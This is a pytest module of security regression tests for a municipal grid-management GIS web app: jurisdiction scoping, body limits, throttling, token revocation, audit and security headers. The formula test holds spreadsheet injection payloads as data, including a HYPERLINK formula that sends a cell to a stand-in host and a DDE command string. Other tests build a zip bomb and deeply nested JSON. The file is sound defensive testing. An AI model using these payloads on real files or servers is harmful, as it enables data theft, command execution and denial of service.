"""Security round 2 (issue 12), one test per finding, against the real app and PostGIS: writes
outside the jurisdiction by id, body limits for every caller, zip bombs, heavy work that would
take every thread, city-wide settings, figures below township level, spreadsheet formulas,
deeply nested JSON, existence oracles, staff grids outside the reader's jurisdiction, token
revocation, the audit trail of imports, 401 before CSRF, the sign-in 429 page, upload leftovers.
(Script injection in map pages: tests/browser/test_hostile_names.py.)"""
from __future__ import annotations

import io
import json
import os
import tempfile
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import text

from gis.access.scope import Scope, Unit
from gis.analysis import reports
from gis.files import frame_csv_bytes, spreadsheet_safe
from gis.store import db
from tests.helpers import client_for, csrf_token, make_account, sign_in, unique
from web.heavy import HeavyGate

T1, T2 = "231281101000", "231281102000"
T1_GRID, T2_GRID = "231281101002001", "231281102001001"
IN_T1, IN_T2 = (125.1, 46.25), (125.3, 46.05)


@pytest.fixture(scope="module")
def url(private_factory_db):
    return private_factory_db


@pytest.fixture(scope="module")
def people(url):
    return {"admin": make_account(url, "sec-admin", "admin"),
            "city-planner": make_account(url, "sec-city-planner", "planner", ["231281000000"]),
            "t1-planner": make_account(url, "sec-t1-planner", "planner", [T1]),
            "t1-official": make_account(url, "sec-t1-official", "official", [T1]),
            "t1-admin": make_account(url, "sec-t1-admin", "admin", [T1]),
            "worker": make_account(url, "sec-worker", "grid_worker", [T1_GRID])}


def client(url, person, **config):
    return client_for(url, person["token"], RATELIMIT_ENABLED=False, **config)


def upload(c, path, name, content: bytes, **form):
    return c.post(path, data={"file": (io.BytesIO(content), name), **form},
                  content_type="multipart/form-data")


def feature(ext, lon, lat, **props):
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon, lat]},
            "properties": {"external_id": ext, "category": "dispute_land",
                           "occurred_at": "2026-05-01T09:00:00+08:00", **props}}


# ---- 1. imports may not touch records outside the jurisdiction, by id or by place ----

def test_camera_and_post_imports_cannot_take_over_foreign_records(url, people):
    admin, planner = client(url, people["admin"]), client(url, people["t1-planner"])
    cam = f"external_id,name,lon,lat,range_m\nCAM-T2,东门,{IN_T2[0]},{IN_T2[1]},100\n"
    assert upload(admin, "/api/v1/cameras/imports", "c.csv", cam.encode()).status_code == 201
    post = f"external_id,name,kind,lon,lat\nPOST-T2,二所,police_post,{IN_T2[0]},{IN_T2[1]}\n"
    assert upload(admin, "/api/v1/posts/imports", "p.csv", post.encode()).status_code == 201
    with db.engine(url).connect() as conn:
        before = conn.execute(text("SELECT external_id, name, ST_AsText(geom) FROM camera "
                                   "UNION ALL SELECT external_id, name, ST_AsText(geom) "
                                   "FROM response_post ORDER BY 1")).all()
        areas = conn.execute(text("SELECT count(*), max(computed_at) FROM response_area")).one()
    # the T1 planner re-uses the ids with places inside T1: refused whole, naming the rows
    for path, body in (("/api/v1/cameras/imports",
                        f"external_id,name,lon,lat,range_m\nCAM-T1,新,{IN_T1[0]},{IN_T1[1]},50\n"
                        f"CAM-T2,改,{IN_T1[0]},{IN_T1[1]},50\n"),
                       ("/api/v1/posts/imports",
                        f"external_id,name,kind,lon,lat\nPOST-T2,改,police_post,"
                        f"{IN_T1[0]},{IN_T1[1]}\n")):
        res = upload(planner, path, "mine.csv", body.encode())
        assert res.status_code == 422, res.get_json()
        details = res.get_json()["error"]["details"]
        assert [d["external_id"] for d in details] == [body.split("\n")[-2].split(",")[0]]
    with db.engine(url).connect() as conn:
        after = conn.execute(text("SELECT external_id, name, ST_AsText(geom) FROM camera "
                                  "UNION ALL SELECT external_id, name, ST_AsText(geom) "
                                  "FROM response_post ORDER BY 1")).all()
        assert after == before  # nothing renamed, moved or added
        assert conn.execute(text("SELECT count(*), max(computed_at) FROM response_area"
                                 )).one() == areas  # and no city-wide recomputation


# ---- 3. body limits hold for session callers too; free text has a cap ----

def test_session_callers_get_413_at_the_json_limit_and_long_text_422(url, people):
    c = client_for(url, None, RATELIMIT_ENABLED=False)
    sign_in(c, people["t1-official"]["username"])
    token = csrf_token(c, "/")
    big = feature(unique("big"), *IN_T1, description="说" * (2 * 1024 * 1024))
    res = c.post("/api/v1/incidents", json=big, headers={"X-CSRFToken": token})
    assert res.status_code == 413 and "limit" in res.get_json()["error"]["message"]
    res = c.post("/api/v1/plans/1/edits", data="x" * (11 * 1024 * 1024),
                 content_type="application/json", headers={"X-CSRFToken": token})
    assert res.status_code == 413
    with db.engine(url).connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM incident WHERE length(description) "
                                 "> 5000")).scalar() == 0
    long = feature(unique("long"), *IN_T1, description="长" * 5001)
    res = client(url, people["t1-official"]).post("/api/v1/incidents", json=long)
    assert res.status_code == 422 and res.get_json()["error"]["field"] == "description"
    admin = client(url, people["admin"])
    res = admin.post("/api/v1/staff", json={"external_id": "LONG", "name": "名" * 201,
                                            "role": "full_time", "grids": [T1_GRID]})
    assert res.status_code == 400 and "longer than 200" in res.get_json()["error"]["message"]
    cam = f"external_id,name,lon,lat,range_m\nLONG,{'名' * 201},{IN_T1[0]},{IN_T1[1]},50\n"
    res = upload(admin, "/api/v1/cameras/imports", "c.csv", cam.encode())
    assert res.status_code == 422 and "longer than 200" in json.dumps(res.get_json(),
                                                                     ensure_ascii=False)
    res = admin.post("/api/v1/accounts", json={"username": unique("n"), "role": "admin",
                                               "password": "a-long-password",
                                               "display_name": "名" * 201})
    assert res.status_code == 422 and res.get_json()["error"]["field"] == "display_name"


# ---- 4. zip bombs are refused before memory or disk fill up ----

def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def test_zip_bombs_are_refused(url, people):
    small = client(url, people["admin"], MAX_CONTENT_LENGTH=1024 * 1024)
    bomb = _zip({"grid.geojson": b" " * (64 * 1024 * 1024)})  # 64 MiB of spaces, ~64 KiB
    assert len(bomb) < 200_000
    for path in ("/api/v1/imports/boundaries", "/api/v1/plans/imports"):
        res = upload(small, path, "set.zip", bomb)
        assert res.status_code == 413, res.get_json()
        assert "zip" in res.get_json()["error"]["message"]
    # many members that each compress modestly but add up beyond 4 x the upload limit
    noise = os.urandom(300_000).hex().encode()  # 600 kB, ~2:1
    res = upload(small, "/api/v1/imports/boundaries", "set.zip",
                 _zip({f"f{i}.geojson": noise for i in range(8)}))
    assert res.status_code in (413, 422)
    leftovers = list(Path(tempfile.gettempdir()).glob(f"gridgis-upload-{os.getpid()}-*"))
    assert leftovers == []


# ---- 5. heavy work cannot take every thread ----

def test_heavy_calls_are_bounded_and_cheap_calls_are_not(url, people):
    c = client(url, people["t1-official"], HEAVY_SLOTS=1, HEAVY_QUEUE=0, HEAVY_PER_ACCOUNT=1)
    gate: HeavyGate = c.application.extensions["gridgis_heavy"]
    cached = c.get("/api/v1/analysis/rates?level=village&measure=count")
    assert cached.status_code == 200
    gate.enter("someone-else")  # the one slot is taken
    try:
        res = c.get("/api/v1/analysis/hotspots?bandwidth=1000")
        assert res.status_code == 429 and int(res.headers["Retry-After"]) > 0
        # an answer already stored needs no heavy slot
        again = c.get("/api/v1/analysis/rates?level=village&measure=count")
        assert again.status_code == 200 and again.get_json()["cached"] is True
        assert c.get("/maps/hotspots").status_code == 200  # the page shell is cheap
        res = c.get("/api/v1/figures?level=township")
        assert res.status_code == 429 and res.get_json()["error"]["code"] == "busy"
        assert c.get(f"/api/v1/locate?lon={IN_T1[0]}&lat={IN_T1[1]}").status_code == 200
        assert c.post("/api/v1/incidents", json=feature(unique("cheap"), *IN_T1)
                      ).status_code == 201
    finally:
        gate.leave("someone-else")
    first = c.get("/api/v1/figures?level=township")
    assert first.status_code == 200 and first.get_json()["cached"] is False
    gate.enter(people["t1-official"]["id"])  # the account's own heavy call in flight
    try:
        res = c.get("/api/v1/figures?level=village")
        assert res.status_code == 429 and "already have" in res.get_json()["error"]["message"]
        again = c.get("/api/v1/figures?level=township")  # stored: no slot needed
        assert again.status_code == 200 and again.get_json()["cached"] is True
        assert again.get_json()["units"] == first.get_json()["units"]
        csv = c.get("/api/v1/figures?level=township&format=csv")  # exports are computed
        assert csv.status_code in (403, 429)
    finally:
        gate.leave(people["t1-official"]["id"])
    # a write moves the data version; with every slot busy the earlier answer stands in
    assert c.post("/api/v1/incidents", json=feature(unique("moves"), *IN_T1)).status_code == 201
    gate.enter("someone-else")
    try:
        stale = c.get("/api/v1/figures?level=township")
        body = stale.get_json()
        assert stale.status_code == 200 and body["stale"] is True and body["stale_since"]
        assert body["units"] == first.get_json()["units"]
    finally:
        gate.leave("someone-else")
    fresh = c.get("/api/v1/figures?level=township").get_json()
    assert "stale" not in fresh and fresh["cached"] is False
    assert fresh["total"]["found"] == first.get_json()["total"]["found"] + 1


# ---- 6. city-wide settings need the whole city ----

def test_city_wide_settings_need_an_account_for_the_whole_city(url, people):
    for who in ("t1-planner", "t1-admin"):
        res = client(url, people[who]).put("/api/v1/coverage/settings",
                                           json={"households_per_worker": 1})
        assert res.status_code == 403, who
    res = client(url, people["t1-admin"]).put("/api/v1/deadlines", json={
        "rules": [{"level": "grid", "accept_hours": 1, "resolve_hours": 2}]})
    assert res.status_code == 403
    with db.engine(url).connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM coverage_setting "
                                 "WHERE key = 'households_per_worker'")).scalar() == 0
    res = client(url, people["city-planner"]).put("/api/v1/coverage/settings",
                                                  json={"households_per_worker": 160})
    assert res.status_code == 200 and res.get_json()["settings"]["households_per_worker"] == 160
    client(url, people["admin"]).put("/api/v1/coverage/settings",
                                     json={"households_per_worker": 150})


# ---- 7. figures below township level are the account's own ----

def test_figures_of_a_grid_worker_are_of_its_grid_only(url, people):
    worker = client(url, people["worker"])
    blind = worker.get("/api/v1/coverage/blind-spots?level=township").get_json()["rows"]
    assert [r["unit_code"] for r in blind if r["unit_code"]] == [T1]
    assert sum(r["ungridded_km2"] for r in blind) == 0
    row = next(r for r in blind if r["unit_code"] == T1)
    grid_km2 = 0.2 * 0.1 * 111.2 * 77.0  # the grid: 0.2 x 0.1 degrees at 46.25 N, roughly
    assert row["outside_5min_km2"] <= grid_km2 * 1.05
    figures = worker.get("/api/v1/figures?level=township").get_json()
    scope = Scope((Unit("grid", T1_GRID),))
    with db.engine(url).connect() as conn:
        page = reports.rates(conn, scope, {"level": "township"})
        households = conn.execute(text("SELECT households FROM grid WHERE code = :c"),
                                  {"c": T1_GRID}).scalar()
    unit = next(u for u in figures["units"] if u["unit_code"] == T1)
    assert unit["households"] == households == int(page.units["households"].iloc[0])


# ---- 8. spreadsheet formulas are neutralised ----

def test_csv_downloads_neutralise_formulas(url, people):
    official = client(url, people["t1-official"])
    hostile = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
               "-2+3"]
    for i, text_ in enumerate(hostile):
        assert official.post("/api/v1/incidents", json=feature(
            f"formula-{i}", *IN_T1, description=text_)).status_code == 201
    body = official.get("/api/v1/exports/incidents?format=csv").get_data(as_text=True)
    for text_ in hostile:
        assert f"'{text_}" in body.replace('""', '"'), text_
    frame = spreadsheet_safe(pd.DataFrame({"n": [-1.5], "s": ["=1+1"], "t": ["\tx"],
                                           "r": ["\rx"], "ok": ["1-2"]}))
    assert frame["n"].iloc[0] == -1.5 and frame["s"].iloc[0] == "'=1+1"
    assert (frame["t"].iloc[0], frame["r"].iloc[0], frame["ok"].iloc[0]) == ("'\tx", "'\rx",
                                                                            "1-2")
    assert b"'=1+1" in frame_csv_bytes(frame)


# ---- 9, 10. malformed JSON answers 400 or 422, never 500 ----

def test_deeply_nested_json_and_bad_rule_levels(url, people):
    admin = client(url, people["admin"])
    deep = "[" * 5000 + "]" * 5000
    for method, path in (("POST", "/api/v1/incidents"), ("PUT", "/api/v1/deadlines"),
                         ("POST", "/api/v1/plans"), ("PATCH", "/api/v1/accounts/1"),
                         ("POST", "/api/v1/tokens"), ("PUT", "/api/v1/coverage/settings")):
        res = admin.open(path, method=method, data=deep, content_type="application/json")
        assert res.status_code == 400, (path, res.status_code)
    res = admin.put("/api/v1/deadlines", json={"rules": [
        {"level": {}, "accept_hours": 1, "resolve_hours": 2}]})
    assert res.status_code == 422 and res.get_json()["error"]["field"] == "rules"


# ---- 11. no existence oracle, sources belong to accounts ----

def test_scoped_accounts_report_under_their_own_source(url, people):
    admin, official = client(url, people["admin"]), client(url, people["t1-official"])
    assert admin.post("/api/v1/incidents", json=feature("TICKET-1", *IN_T1, source="12345")
                      ).status_code == 201
    res = official.post("/api/v1/incidents", json=feature("TICKET-1", *IN_T1, source="12345"))
    assert res.status_code == 422 and res.get_json()["error"]["field"] == "source"
    fresh = official.post("/api/v1/incidents", json=feature("TICKET-1", *IN_T1))
    new = official.post("/api/v1/incidents", json=feature(unique("TICKET"), *IN_T1))
    assert fresh.status_code == new.status_code == 201  # an existing and a new id answer alike
    assert fresh.get_json()["properties"]["source"] == people["t1-official"]["username"]
    csv = "external_id,category,occurred_at,lon,lat,source\nX1,dispute_land,2026-05-01," \
          f"{IN_T1[0]},{IN_T1[1]},12345\n"
    res = upload(official, "/api/v1/imports/incidents", "x.csv", csv.encode())
    assert res.status_code == 422 and "source" in json.dumps(res.get_json())
    # staff ids: the same 409 whether the id is in the jurisdiction or outside it
    staff = {"name": "某", "role": "full_time"}
    assert admin.post("/api/v1/staff", json={"external_id": "HR-T2", "grids": [T2_GRID],
                                             **staff}).status_code == 201
    assert admin.post("/api/v1/staff", json={"external_id": "HR-T1", "grids": [T1_GRID],
                                             **staff}).status_code == 201
    foreign = official.post("/api/v1/staff", json={"external_id": "HR-T2",
                                                   "grids": [T1_GRID], **staff})
    own = official.post("/api/v1/staff", json={"external_id": "HR-T1", "grids": [T1_GRID],
                                               **staff})
    assert foreign.status_code == own.status_code == 409
    assert foreign.get_json()["error"]["message"].replace("HR-T2", "X") == \
        own.get_json()["error"]["message"].replace("HR-T1", "X")


# ---- 12. a staff member's grids outside the reader's jurisdiction stay hidden ----

def test_staff_show_only_the_grids_inside_the_readers_jurisdiction(url, people):
    admin, official = client(url, people["admin"]), client(url, people["t1-official"])
    assert admin.post("/api/v1/staff", json={"external_id": "HR-BOTH", "name": "两地",
                                             "role": "part_time",
                                             "grids": [T1_GRID, T2_GRID]}).status_code == 201
    assert official.get("/api/v1/staff/HR-BOTH").get_json()["staff"]["grids"] == [T1_GRID]
    listed = official.get("/api/v1/staff").get_json()["staff"]
    assert all(g.startswith(T1[:9]) for s in listed for g in s["grids"])
    assert admin.get("/api/v1/staff/HR-BOTH").get_json()["staff"]["grids"] == [T1_GRID,
                                                                             T2_GRID]


# ---- 13. disabling an account or changing its password revokes its tokens for good ----

def test_disabling_or_a_new_password_revokes_tokens_for_good(url, people):
    admin = client(url, people["admin"])
    for change in ({"active": False}, {"password": "a-brand-new-password"}):
        person = make_account(url, unique("tok"), "official", [T1])
        c = client(url, person)
        assert c.get("/api/v1/me").status_code == 200
        assert admin.patch(f"/api/v1/accounts/{person['id']}", json=change).status_code == 200
        if "active" in change:
            assert admin.patch(f"/api/v1/accounts/{person['id']}",
                               json={"active": True}).status_code == 200
        assert c.get("/api/v1/me").status_code == 401, change


# ---- 14. audit entries of imports name the file and the records changed ----

def test_import_audit_names_the_original_file_and_the_ids_changed(url, people):
    admin = client(url, people["admin"])
    cam = f"external_id,name,lon,lat,range_m\nAUD-1,一,{IN_T1[0]},{IN_T1[1]},80\n" \
          f"AUD-2,二,{IN_T1[0]},{IN_T1[1]},90\n"
    assert upload(admin, "/api/v1/cameras/imports", "东门摄像头.csv", cam.encode()
                  ).status_code == 201
    events = admin.get("/api/v1/audit?action=camera_import").get_json()["events"]
    assert events[0]["target"] == "东门摄像头.csv"
    assert events[0]["details"]["changed"] == ["AUD-1", "AUD-2"]


# ---- 15. 401 before CSRF; the sign-in 429 page; upload leftovers removed ----

def test_unauthenticated_writes_answer_401(url):
    anonymous = client_for(url, None)
    for method, path in (("POST", "/api/v1/incidents"), ("DELETE", "/api/v1/tokens/1"),
                         ("PATCH", "/api/v1/accounts/1"), ("PUT", "/api/v1/deadlines")):
        res = anonymous.open(path, method=method, json={})
        assert res.status_code == 401, (method, path)
        assert res.get_json()["error"]["code"] == "unauthorized"


def test_sign_in_limit_answers_with_the_apps_page_and_retry_after(url):
    c = client_for(url, None, SIGN_IN_LIMIT="2 per minute")
    codes = [c.post("/login", data={"username": "x", "password": "wrong-password",
                                    "csrf_token": csrf_token(c)}).status_code for _ in range(3)]
    assert codes == [401, 401, 429]
    res = c.post("/login", data={"username": "x", "password": "y", "csrf_token": csrf_token(c)})
    page = res.get_data(as_text=True)
    assert res.status_code == 429 and "gg-nav" in page and "Too many requests" in page
    assert int(res.headers["Retry-After"]) > 0


def test_upload_folders_of_dead_processes_are_removed_at_start_up(url):
    stale = Path(tempfile.mkdtemp(prefix="gridgis-upload-999999999-"))
    (stale / "upload.csv").write_text("half an import")
    alive = Path(tempfile.mkdtemp(prefix=f"gridgis-upload-{os.getpid()}-"))
    try:
        client_for(url, None)  # a new app starts
        assert not stale.exists() and alive.exists()
    finally:
        import shutil
        shutil.rmtree(alive, ignore_errors=True)
        shutil.rmtree(stale, ignore_errors=True)


def test_every_answer_carries_the_security_headers(url, people):
    c = client(url, people["admin"])
    for path in ("/", "/api/v1/me", "/maps/coverage", "/login", "/api/v1/openapi.json"):
        res = c.get(path)
        csp = res.headers["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, path
        assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
        assert res.headers["X-Content-Type-Options"] == "nosniff"
        assert res.headers["X-Frame-Options"] == "DENY"
